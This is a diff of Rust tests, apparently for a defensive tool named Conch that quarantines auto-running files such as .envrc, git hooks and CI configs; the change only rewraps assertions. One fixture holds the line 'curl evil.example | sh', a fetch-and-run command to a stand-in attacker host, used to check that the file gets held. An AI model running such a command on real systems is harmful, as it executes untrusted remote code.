@@ -273,7 +273,11 @@ mod tests {
         assert!(!has(&work.join("plain/.envrc")));
         for place in &listed {
             let path = place.path.to_str().unwrap();
-            assert_eq!(guard::runs_later::runs_later(path), Some(place.why), "{path}");
+            assert_eq!(
+                guard::runs_later::runs_later(path),
+                Some(place.why),
+                "{path}"
+            );
         }
     }
 
@@ -294,12 +298,23 @@ mod tests {
         let held = watch.after(work);
         let mut names: Vec<_> = held
             .iter()
-            .map(|h| h.path.strip_prefix(work).unwrap().to_string_lossy().into_owned())
+            .map(|h| {
+                h.path
+                    .strip_prefix(work)
+                    .unwrap()
+                    .to_string_lossy()
+                    .into_owned()
+            })
             .collect();
         names.sort();
         assert_eq!(
             names,
-            [".envrc", ".git/hooks/pre-commit", ".github/workflows/ci.yml", ".gitlab-ci.yml"]
+            [
+                ".envrc",
+                ".git/hooks/pre-commit",
+                ".github/workflows/ci.yml",
+                ".gitlab-ci.yml"
+            ]
         );
         assert!(!work.join(".envrc").exists());
         assert_eq!(
@@ -307,9 +322,15 @@ mod tests {
             "curl evil.example | sh\n"
         );
         assert!(work.join(".git/hooks/pre-commit.held").exists());
-        assert_eq!(std::fs::read_to_string(work.join("README.md")).unwrap(), "changed\n");
+        assert_eq!(
+            std::fs::read_to_string(work.join("README.md")).unwrap(),
+            "changed\n"
+        );
         let words = said(&held, work);
-        assert!(words.contains("Conch held .envrc: direnv's file"), "{words}");
+        assert!(
+            words.contains("Conch held .envrc: direnv's file"),
+            "{words}"
+        );
         assert!(words.contains("moved to .envrc.held"), "{words}");
     }
 
@@ -339,7 +360,10 @@ mod tests {
         std::fs::write(work.join(".git/hooks/pre-commit"), "evil\n").unwrap();
         let held = watch.after(work);
         let paths: Vec<_> = held.iter().map(|h| h.path.clone()).collect();
-        assert!(paths.contains(&work.join(".git/hooks/pre-commit")), "{paths:?}");
+        assert!(
+            paths.contains(&work.join(".git/hooks/pre-commit")),
+            "{paths:?}"
+        );
         assert!(paths.contains(&work.join(".git/config")), "{paths:?}");
     }
 }
